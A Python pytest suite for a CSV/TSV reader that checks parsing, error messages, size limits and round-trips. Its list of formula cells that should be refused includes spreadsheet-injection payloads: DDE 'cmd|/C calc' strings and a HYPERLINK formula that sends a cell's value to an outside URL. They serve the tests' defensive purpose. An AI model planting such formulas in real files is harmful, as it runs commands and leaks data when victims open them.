"""CSV and TSV: what is read, what is refused, and that the refusal names the place."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from freehold.data import (
    DEFAULT_DATA_LIMITS,
    DataError,
    DataLimits,
    Format,
    ReadOptions,
    read_table,
)


def read(
    content: bytes | str, limits: DataLimits = DEFAULT_DATA_LIMITS, **options: Any
) -> pl.DataFrame:
    data = content.encode() if isinstance(content, str) else content
    return read_table(io.BytesIO(data), Format.CSV, ReadOptions(**options), limits=limits)


def columns(content: bytes | str, **options: Any) -> dict[str, list[Any]]:
    return read(content, **options).to_dict(as_series=False)


MALFORMED: dict[str, tuple[bytes, str, str]] = {
    "no bytes": (b"", "data.empty", "empty"),
    "a byte order mark and nothing else": (b"\xef\xbb\xbf", "data.empty", "empty"),
    "a header without rows": (b"a,b\n", "data.empty", "header and no rows"),
    "a header without a line end": (b"a,b", "data.empty", "header and no rows"),
    "a header and blank lines": (b"a,b\n\n\n", "data.empty", "header and no rows"),
    "a blank first line": (b"\na,b\n1,2\n", "data.ragged", "row 1 is blank"),
    "too few fields": (b"a,b\n1,2\n3\n", "data.ragged", "row 3 has 1 fields; expected 2"),
    "too many fields": (b"a,b\n1,2,3\n", "data.ragged", "row 2 has 3 fields; expected 2"),
    "too few fields in the last row": (b"a,b\n1", "data.ragged", "row 2 has 1 fields"),
    "a blank line between rows": (b"a,b\n1,2\n\n3,4\n", "data.ragged", "row 3 is blank"),
    "a short row, then blank lines": (b"a,b\n1\r\n\r\n", "data.ragged", "row 2 has 1 fields"),
    "a blank line in one column": (b"a\n1\n\n2\n", "data.ragged", "row 3 is blank"),
    "a blank line at the end of one column": (b"a\r\n1\r\n\r\n", "data.ragged", "row 3 is blank"),
    "a quote never closed": (b'a,b\n1,2\n3,"4\n5,6\n', "data.quote", "row 3, column 2 opens"),
    "a quote closed by the next one": (
        b'a,b\n1,"2\n3,"4"\n',
        "data.quote",
        "row 2, column 2 has text after a closing quote",
    ),
    "a quote inside a field": (b'a,b\n1,x"y\n', "data.quote", "row 2, column 2 has a quote inside"),
    "text after a quote": (b'a,b\n"x"y,2\n', "data.quote", "row 2, column 1 has text after"),
    "space before a quote": (b'a,b\n1, "y"\n', "data.quote", "row 2, column 2 has a quote inside"),
    "old Macintosh line ends": (b"a,b\r1,2\r", "data.newline", "row 1 has a carriage return"),
    "a carriage return at the very end": (b"a,b\n1,2\r", "data.newline", "row 2"),
    "one stray carriage return": (b"a,b\n1,2\n3\r,4\n", "data.newline", "row 3"),
    "a NUL byte": (b"a,b\n1,\x002\n", "data.nul", "offset 6"),
    "two columns of one name": (b"a,b,a\n1,2,3\n", "data.header", "columns 1 and 3 .* 'a'"),
    "a column without a name": (b"a,,c\n1,2,3\n", "data.header", "column 2 has an empty name"),
    "a column named with spaces": (b'a," "\n1,2\n', "data.header", "column 2 has an empty name"),
    "a name over the limit": (b"a," + b"n" * 257 + b"\n1,2\n", "data.header", "257 characters"),
    "a first line without end": (b"n" * 3_000_000 + b"\n1\n", "data.header", "3000001 bytes"),
    "another delimiter": (b"a;b\n1;2\n", "data.header", "expected ',' between"),
    "Latin-1": ("a,b\n1,M\xfcller\n".encode("latin-1"), "data.encoding", "0xfc at offset 7"),
    "a character cut off": (b"a,b\n1,\xe2\x82", "data.encoding", "0xe2 at offset 6"),
    "a character that goes on as another": (b"a\n\xe2x,\n", "data.encoding", "0xe2 at offset 2"),
    "a surrogate in UTF-8": (b"a\n\xed\xa0\x80\n", "data.encoding", "0xed at offset 2"),
    "UTF-16 with a mark": ("a,b\n1,2\n".encode("utf-16"), "data.encoding", "UTF-16"),
    "UTF-16 big endian": (b"\xfe\xff\0a\0\n\x001", "data.encoding", r"UTF-16 \(big endian\)"),
    "UTF-16 without a mark": (
        "a,b\n1,2\n".encode("utf-16-le"),
        "data.encoding",
        r"UTF-16 \(little endian\)",
    ),
    "UTF-32": ("a,b\n1,2\n".encode("utf-32"), "data.encoding", "UTF-32"),
    "more columns than allowed": (b"," * 2_000 + b"\n", "data.too_large", "more than 2000 columns"),
    "columns without end": (b"," * 3_000_000, "data.too_large", "more than 2000 columns"),
}


@pytest.mark.parametrize("case", MALFORMED)
@pytest.mark.parametrize("chunk_bytes", [1, 3, 1_048_576])
def test_a_malformed_file_is_refused_by_code_and_place(case: str, chunk_bytes: int) -> None:
    content, code, words = MALFORMED[case]
    if len(content) > 10_000 and chunk_bytes < 10:
        chunk_bytes = 65_536
    with pytest.raises(DataError, match=words) as caught:
        read(content, replace(DEFAULT_DATA_LIMITS, chunk_bytes=chunk_bytes))
    assert caught.value.code == code


@pytest.mark.parametrize("head", [b"a,b\n1,", b'a,b\n1,"', b"a,b\n1,2\n3,4\n5,"])
def test_a_field_of_100_megabytes_is_refused_before_it_is_held(head: bytes) -> None:
    class Endless(io.RawIOBase):
        """100 MB that exist only while they are read; counts what was asked for."""

        size = 100_000_000
        at = 0
        served = 0

        def seek(self, offset: int, whence: int = 0) -> int:
            self.at = offset if whence == 0 else self.size
            return self.at

        def tell(self) -> int:
            return self.at

        def read(self, size: int = -1) -> bytes:
            assert 0 <= size <= DEFAULT_DATA_LIMITS.chunk_bytes
            start, end = self.at, min(self.at + size, self.size)
            self.at = end
            return head[start:end] + b"x" * (end - max(start, len(head)))

    with pytest.raises(DataError, match=r"row \d, column 2 has more than 16777216 bytes") as caught:
        read_table(Endless(), Format.CSV)  # type: ignore[arg-type]
    assert caught.value.code == "data.too_large"


@pytest.mark.parametrize(
    ("limits", "words"),
    [
        (DataLimits(field_bytes_max=3), "row 3, column 2 has more than 3 bytes"),
        (DataLimits(rows_max=1), "more than 1 rows"),
        (DataLimits(cells_max=3), "more than 3 cells"),
        (DataLimits(columns_max=1), "more than 1 columns"),
        (DataLimits(table_bytes_max=10), "more than 10 bytes"),
    ],
)
@pytest.mark.parametrize("chunk_bytes", [1, 2, 7, 100])
def test_each_bound_refuses_one_more_and_only_that(
    limits: DataLimits, words: str, chunk_bytes: int
) -> None:
    with pytest.raises(DataError, match=words) as caught:
        read("a,b\n1,2\n3,long\n", replace(limits, chunk_bytes=chunk_bytes))
    assert caught.value.code == "data.too_large"
    exact = DataLimits(
        field_bytes_max=4, rows_max=2, cells_max=4, columns_max=2, table_bytes_max=15
    )
    assert read("a,b\n1,2\n3,long\n", replace(exact, chunk_bytes=chunk_bytes)).height == 2


def test_a_long_field_in_quotes_with_line_ends_keeps_its_row_number() -> None:
    content = 'a,b\n"1\n2\n3",x\n4,' + "y" * 20
    with pytest.raises(DataError, match="row 3, column 2"):
        read(content, DataLimits(field_bytes_max=10))


ACCEPTED: dict[str, tuple[bytes | str, dict[str, list[Any]]]] = {
    "a byte order mark": (b"\xef\xbb\xbfa,b\n1,2\n", {"a": [1], "b": [2]}),
    "Windows line ends": (b"a,b\r\n1,x\r\n", {"a": [1], "b": ["x"]}),
    "no line end at the end": (b"a,b\n1,2", {"a": [1], "b": [2]}),
    "blank lines at the end": (b"a,b\r\n1,2\r\n\r\n\n", {"a": [1], "b": [2]}),
    "quoted delimiters, quotes and line ends": (
        'a,b\n"x,""y""\r\nz",2\n"""",3\n',
        {"a": ['x,"y"\r\nz', '"'], "b": [2, 3]},
    ),
    "a quoted header": (b'"a,1","b\nc"\n1,2\n', {"a,1": [1], "b\nc": [2]}),
    "empty cells, quoted or not": (b'a,b\n,""\n1,x\n', {"a": [None, 1], "b": [None, "x"]}),
    "a missing value in one column": (b'a\n1\n""\n', {"a": [1, None]}),
    "a column without values": (b"a,b\n1,\n2,\n", {"a": [1, 2], "b": [None, None]}),
    "ids and postcodes": (b"a,b\n007,+1\n10,2\n", {"a": ["007", "10"], "b": ["+1", "2"]}),
    "integers of all signs": (b"a\n0\n-5\n9223372036854775807\n", {"a": [0, -5, 2**63 - 1]}),
    "integers too large for any column": (
        b"a\n9223372036854775808\n1\n",
        {"a": ["9223372036854775808", "1"]},
    ),
    "integers that no float holds, among floats": (
        b"a\n9007199254740993\n1.5\n",
        {"a": ["9007199254740993", "1.5"]},
    ),
    "floats": (b"a\n1\n-2.5\n.5\n1e-3\n2.\n", {"a": [1.0, -2.5, 0.5, 0.001, 2.0]}),
    "numbers out of range": (b"a\n1e999\n1.0\n", {"a": ["1e999", "1.0"]}),
    "NA, null, NaN and inf are texts": (
        b"a,b\nNA,nan\nnull,inf\n1,1.5\n",
        {"a": ["NA", "null", "1"], "b": ["nan", "inf", "1.5"]},
    ),
    "booleans": (b"a,b\ntrue,yes\nFALSE,no\n", {"a": [True, False], "b": ["yes", "no"]}),
    "dates": (
        b"a,b\n2024-02-29,2024-02-30\n2026-11-24,2024-01-01\n",
        {"a": [date(2024, 2, 29), date(2026, 11, 24)], "b": ["2024-02-30", "2024-01-01"]},
    ),
    "spaces are part of a cell": (b"a\n 1\n2\n", {"a": [" 1", "2"]}),
    "other scripts": ("größe,名前\n1,日本\n", {"größe": [1], "名前": ["日本"]}),
}


@pytest.mark.parametrize("case", ACCEPTED)
@pytest.mark.parametrize("chunk_bytes", [1, 2, 5, 1_048_576])
def test_a_sound_file_is_read_as_it_stands(case: str, chunk_bytes: int) -> None:
    content, expected = ACCEPTED[case]
    table = read(content, replace(DEFAULT_DATA_LIMITS, chunk_bytes=chunk_bytes))
    assert table.to_dict(as_series=False) == expected


def test_one_late_value_decides_the_kind_of_the_whole_column() -> None:
    content = "a,b,c\n" + "1,2024-01-01,2.5\n" * 50_000 + "007,2.5,01.5\n"
    assert read(content).schema == {"a": pl.String, "b": pl.String, "c": pl.String}


def test_named_texts_mean_missing_values_on_request() -> None:
    content = "a,b\nNA,x\n1,-\n"
    assert columns(content, missing=("NA", "-")) == {"a": [None, 1], "b": ["x", None]}


def test_another_delimiter_can_be_named() -> None:
    assert columns("a;b\n1,5;2\n", delimiter=";") == {"a": ["1,5"], "b": [2]}


@pytest.mark.parametrize("delimiter", ["", "::", '"', "\n", "\r", "\0", "§"])
def test_what_cannot_delimit_is_a_mistake_of_the_caller(delimiter: str) -> None:
    with pytest.raises(ValueError, match="one ASCII character"):
        ReadOptions(delimiter=delimiter)


def test_tabs_delimit_tsv_and_quotes_work_the_same() -> None:
    table = read_table(io.BytesIO(b'a\tb\n1\t"x\ty, z"\n'), Format.TSV)
    assert table.to_dict(as_series=False) == {"a": [1], "b": ["x\ty, z"]}


FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    "=A1",
    "=-1+2",
    "= 1+1",
    "\t=1+1",
    "  =SUM(A1:A9)",
    '="a"&"b"',
    "={1,2}",
    "='Sheet 2'!A1",
    "=\uff11+1",
    "＝1+1",
    "@SUM(A1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＠SUM(A1)",
    "+cmd|'/C calc'!A0",
    "+cmd|'/C calc'!'A0'",
    "-cmd|'/C calc'!A0",
    "- cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "-2 + 3 + cmd|'/C calc'!A0",
    "+SUM(A1:A9)",
    "-SUM(A1)+1",
    "+(SUM(A1))",
    "-1+HYPERLINK(A1)",
    "- HYPERLINK(A1)",
    "+A1",
    "-A1+B2",
    "+$A$1",
    "-'Sheet 2'!A1",
    "+Sheet2!A1",
    "＋SUM(A1)",
    "-SUM(\n1)",
]
NO_FORMULAS = [
    "-5",
    "-5.25",
    "+5",
    "-1e5",
    "-5 %",
    "-",
    "--",
    "---",
    "+",
    "=",
    "==",
    "=== heading ===",
    "====",
    "=-=-=-=",
    "=> see below",
    "=)",
    "+49 30 23125 000",
    "+49-30-23125-000",
    "+49 (0)30 / 23125-000",
    "+1 (555) 010-0100",
    "- a list item",
    "- item(s) to buy",
    "- 3 apples, 2 pears (ripe)",
    "- tea | coffee",
    "-- signed, the team",
    "+ more of it",
    "+/- 3 cm",
    "@alice",
    "@alice thanks!",
    "@ home",
    "alice@example.org",
    "a=1+1",
    "1+1",
    "(=1)",
    "-5 to -3 degrees",
    "–5",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_refused(cell: str) -> None:
    quoted = cell.replace('"', '""')
    content = f'a,b\n1,x\n2,"{quoted}"\n3,y\n'
    with pytest.raises(DataError, match=r"row 3, column 2 \('b'\) is a formula") as caught:
        read(content)
    assert caught.value.code == "data.formula"
    assert "formulas='text'" in caught.value.hint
    assert read(content, formulas="text")["b"].to_list() == ["x", cell, "y"]


@pytest.mark.parametrize("cell", NO_FORMULAS)
def test_a_cell_that_only_looks_like_a_formula_is_read(cell: str) -> None:
    assert read(f'a,b\n1,x\n2,"{cell}"\n')["b"].to_list() == ["x", cell]


def test_a_formula_among_the_column_names_is_refused() -> None:
    with pytest.raises(DataError, match="row 1, column 2"):
        read("a,=1+1\n1,2\n")


def test_a_cell_made_to_stall_the_check_does_not() -> None:
    hostile = "-" + "1%+" * 300_000 + "x"
    assert read(f'a,b\n1,"{hostile}"\n')["b"].to_list() == [hostile]


TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)
HARD_TEXTS = st.lists(
    st.sampled_from([",", '"', "\n", "\r\n", "x", "ü", " ", "1", "-", ";", "😀"]), max_size=12
).map("".join)


@st.composite
def tables(draw: st.DrawFn) -> tuple[list[str], list[list[str]]]:
    width = draw(st.integers(1, 5))
    names = [f"column {i}" for i in range(width)]
    row = st.lists(TEXTS | HARD_TEXTS, min_size=width, max_size=width)
    return names, draw(st.lists(row, min_size=1, max_size=12))


@given(
    tables(),
    # With "\n" the csv module leaves a carriage return unquoted, and the file has two readings.
    st.sampled_from([(csv.QUOTE_MINIMAL, "\r\n"), (csv.QUOTE_ALL, "\r\n"), (csv.QUOTE_ALL, "\n")]),
    st.sampled_from([1, 2, 3, 16, 1_048_576]),
)
def test_what_the_csv_module_wrote_is_read_back_equal(
    table: tuple[list[str], list[list[str]]], style: tuple[Any, str], chunk_bytes: int
) -> None:
    names, rows = table
    text = io.StringIO(newline="")
    writer = csv.writer(text, quoting=style[0], lineterminator=style[1])
    writer.writerow(names)
    writer.writerows([*rows, ["x"] * len(names)])  # one sure text keeps each column a text
    read_back = read(
        text.getvalue(), replace(DEFAULT_DATA_LIMITS, chunk_bytes=chunk_bytes), formulas="text"
    )
    assert read_back.columns == names
    assert [[cell or "" for cell in row] for row in read_back.rows()[:-1]] == rows


@given(st.lists(st.sampled_from([b"a", b"1", b",", b'"', b"\n", b"\r\n", b"\r"]), max_size=24))
def test_any_file_is_refused_or_read_as_the_strict_csv_module_does(parts: list[bytes]) -> None:
    content = b"h,i\n" + b"".join(parts)
    try:
        table = read(content, replace(DEFAULT_DATA_LIMITS, chunk_bytes=3))
    except DataError:
        return
    text = io.StringIO(content.decode(), newline="")
    header, *rows = [row for row in csv.reader(text, strict=True) if row]
    assert table.columns == header
    assert [["" if c is None else str(c) for c in row] for row in table.rows()] == rows


DOCUMENTED = {
    "tabular-adult/adult_train.csv": (19_537, 15),
    "tabular-adult/adult_test.csv": (16_281, 15),
    "tabular-bank-marketing/bank-full.csv": (40_004, 17),
    "tabular-heart/heart_disease.csv": (304, 14),
    "support-banking77/train.csv": (10_003, 2),
    "support-banking77/test.csv": (3_080, 2),
}


@pytest.mark.parametrize("name", DOCUMENTED)
def test_a_public_file_has_its_documented_rows(shared_data: Path, name: str) -> None:
    with (shared_data / name).open("rb") as stream:
        assert read_table(stream, Format.CSV).shape == DOCUMENTED[name]


def test_the_columns_of_a_public_file_have_their_kinds(shared_data: Path) -> None:
    with (shared_data / "tabular-bank-marketing" / "bank-full.csv").open("rb") as stream:
        schema = read_table(stream, Format.CSV).schema
    texts = {name for name, kind in schema.items() if kind == pl.String}
    assert texts == {
        *("job", "marital", "education", "default", "housing", "loan", "contact", "month"),
        *("poutcome", "y"),
    }
    assert {schema[name] for name in schema if name not in texts} == {pl.Int64()}
